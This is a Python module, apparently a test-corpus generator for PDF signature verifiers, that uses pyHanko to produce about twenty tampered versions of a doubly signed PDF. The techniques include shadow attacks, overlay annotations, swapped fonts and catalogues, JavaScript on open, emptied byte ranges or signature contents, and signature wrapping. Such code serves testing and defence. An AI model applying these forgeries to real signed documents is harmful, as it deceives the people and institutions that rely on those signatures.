"""Twenty ways to change a signed PDF after the fact: incremental updates, shadow attacks, forged and moved signatures.

Each takes the bytes of a paper signed twice and returns changed bytes. Names follow "1 Trillion Dollar Refund" and
"Shadow Attacks" (Mladenov, Mainka and others, 2019 and 2021).
"""

import re
from collections.abc import Callable
from io import BytesIO
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields

Attack = Callable[[bytes], bytes]
ATTACKS: dict[str, Attack] = {}


def attack(make: Attack) -> Attack:
    ATTACKS[make.__name__] = make
    return make


def update(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], Any]) -> bytes:
    """Return the paper with one more incremental update."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    change(writer)
    target = BytesIO()
    writer.write(target)
    return target.getvalue()


def page_of(writer: IncrementalPdfFileWriter) -> Any:
    return writer.root["/Pages"]["/Kids"].raw_get(0)


def changed_page(pdf: bytes, **entries: Any) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        reference = page_of(writer)
        page = reference.get_object()
        for name, value in entries.items():
            page[pdf_name(f"/{name}")] = value
        writer.mark_update(reference)

    return update(pdf, change)


def changed_root(pdf: bytes, **entries: Any) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        for name, value in entries.items():
            writer.root[pdf_name(f"/{name}")] = value
        writer.update_root()

    return update(pdf, change)


def annotated(pdf: bytes, **entries: Any) -> bytes:
    """Return the paper with an annotation laid over its first page."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        reference = page_of(writer)
        page = reference.get_object()
        over = {"/Type": pdf_name("/Annot"), "/Rect": numbers(60, 500, 500, 700), "/F": generic.NumberObject(4)}
        over |= {f"/{name}": value for name, value in entries.items()}
        added = writer.add_object(generic.DictionaryObject({pdf_name(key): value for key, value in over.items()}))
        kept = list(page["/Annots"]) if "/Annots" in page else []
        there = [page["/Annots"].raw_get(number) for number in range(len(kept))]
        page[pdf_name("/Annots")] = generic.ArrayObject([*there, added])
        writer.mark_update(reference)

    return update(pdf, change)


def dictionary(**entries: Any) -> generic.DictionaryObject:
    return generic.DictionaryObject({pdf_name(f"/{name}"): value for name, value in entries.items()})


def numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject(map(generic.FloatObject, values))


def stream(content: bytes) -> generic.StreamObject:
    return generic.StreamObject(stream_data=content)


@attack
def other_page_content(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        reference = page_of(writer)
        reference.get_object()[pdf_name("/Contents")] = writer.add_object(stream(b"BT ET"))
        writer.mark_update(reference)

    return update(pdf, change)


@attack
def content_stream_edited_in_place(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        contents = page_of(writer).get_object().raw_get("/Contents")
        contents.get_object()._data = b"BT ET"
        contents.get_object()._encoded_data = None
        writer.mark_update(contents)

    return update(pdf, change)


@attack
def free_text_over_the_page(pdf: bytes) -> bytes:
    return annotated(pdf, Subtype=pdf_name("/FreeText"), Contents=pdf_string("10,0"), DA=pdf_string("/Helv 20 Tf"))


@attack
def stamp_over_the_page(pdf: bytes) -> bytes:
    return annotated(pdf, Subtype=pdf_name("/Stamp"), Contents=pdf_string("Giỏi"))


@attack
def link_over_the_code(pdf: bytes) -> bytes:
    action = {pdf_name("/S"): pdf_name("/URI"), pdf_name("/URI"): pdf_string("https://example.org/v/X")}
    return annotated(pdf, Subtype=pdf_name("/Link"), A=generic.DictionaryObject(action))


@attack
def shadow_hide_by_a_white_image(pdf: bytes) -> bytes:
    return annotated(pdf, Subtype=pdf_name("/Square"), IC=numbers(1, 1, 1))


@attack
def shadow_replace_by_a_text_field(pdf: bytes) -> bytes:
    field = {"FT": pdf_name("/Tx"), "T": pdf_string("amount"), "V": pdf_string("10,0")}
    return annotated(pdf, Subtype=pdf_name("/Widget"), **field)


@attack
def shadow_hide_and_replace_by_another_catalogue(pdf: bytes) -> bytes:
    """Point to other pages, as prepared pages that wait unseen in the file would be shown."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.add_object(dictionary(Type=pdf_name("/Page"), MediaBox=numbers(0, 0, 9, 9)))
        kids = generic.ArrayObject([page])
        pages = dictionary(Type=pdf_name("/Pages"), Kids=kids, Count=generic.NumberObject(1))
        writer.root[pdf_name("/Pages")] = writer.add_object(pages)
        writer.update_root()

    return update(pdf, change)


@attack
def other_font(pdf: bytes) -> bytes:
    """Draw other letters with the same codes."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        resources = page_of(writer).get_object()["/Resources"]["/Font"]
        first = next(iter(resources))
        font = resources.raw_get(first)
        font.get_object()[pdf_name("/ToUnicode")] = writer.add_object(stream(b"begincmap endcmap"))
        writer.mark_update(font)

    return update(pdf, change)


@attack
def smaller_page(pdf: bytes) -> bytes:
    return changed_page(pdf, MediaBox=numbers(0, 300, 595, 842))


@attack
def turned_page(pdf: bytes) -> bytes:
    return changed_page(pdf, Rotate=generic.NumberObject(180))


@attack
def cropped_page(pdf: bytes) -> bytes:
    return changed_page(pdf, CropBox=numbers(0, 300, 595, 842))


@attack
def one_more_page(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        drawn, size = writer.add_object(stream(b"BT ET")), numbers(0, 0, 595, 842)
        page = dictionary(Type=pdf_name("/Page"), MediaBox=size, Contents=drawn, Resources=dictionary())
        writer.insert_page(page)

    return update(pdf, change)


@attack
def script_on_opening(pdf: bytes) -> bytes:
    script = {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): pdf_string("app.alert(1)")}
    return changed_root(pdf, OpenAction=generic.DictionaryObject(script))


@attack
def layers_that_hide(pdf: bytes) -> bytes:
    return changed_root(pdf, OCProperties=generic.DictionaryObject({pdf_name("/OCGs"): generic.ArrayObject()}))


@attack
def attached_file(pdf: bytes) -> bytes:
    return changed_root(pdf, Names=generic.DictionaryObject({pdf_name("/EmbeddedFiles"): generic.DictionaryObject()}))


@attack
def other_picture_of_the_seal(pdf: bytes) -> bytes:
    """Change what the unit's signature shows."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        all_fields = writer.root["/AcroForm"]["/Fields"]
        last = all_fields.raw_get(len(all_fields) - 1)
        last.get_object()["/AP"][pdf_name("/N")] = writer.add_object(stream(b"0 0 9 9 re f"))
        writer.mark_update(last)

    return update(pdf, change)


@attack
def one_more_signature_field(pdf: bytes) -> bytes:
    third = fields.SigFieldSpec("Third", box=(9, 9, 99, 99))
    return update(pdf, lambda writer: fields.append_signature_field(writer, third))


@attack
def signature_without_its_range(pdf: bytes) -> bytes:
    """Universal signature forgery: leave the verifier nothing to compute."""
    return re.sub(rb"/ByteRange \[[^\]]*\]", lambda found: b"/ByteRange []".ljust(len(found[0])), pdf)


@attack
def signature_emptied(pdf: bytes) -> bytes:
    """Universal signature forgery: no contents."""
    contents = re.compile(rb"(/Contents ?<)[0-9a-fA-F]{2000,}>")
    return contents.sub(lambda found: found[1] + b"0" * (len(found[0]) - len(found[1]) - 1) + b">", pdf)


@attack
def signature_wrapped(pdf: bytes) -> bytes:
    """Signature wrapping: move the second signed range to the end and put other bytes in its place."""
    found = list(re.finditer(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]", pdf))[-1]
    before, begins, length = (int(number) for number in found.groups())
    tail = pdf[begins : begins + length]
    moved = f"/ByteRange [0 {before} {begins + length} {length}]".encode()
    patched = pdf.replace(found[0], moved[: len(found[0])].ljust(len(found[0])))
    return patched[:begins] + tail.replace(b"/Root", b"/Roof") + tail


@attack
def older_revision_alone(pdf: bytes) -> bytes:
    """Take the unit's signature off: what the signer signed, without number's seal."""
    first = PdfFileReader(BytesIO(pdf)).embedded_regular_signatures[0]
    before, begins, length = (int(each) for each in list(first.byte_range)[1:])
    return pdf[: begins + length] if before else pdf
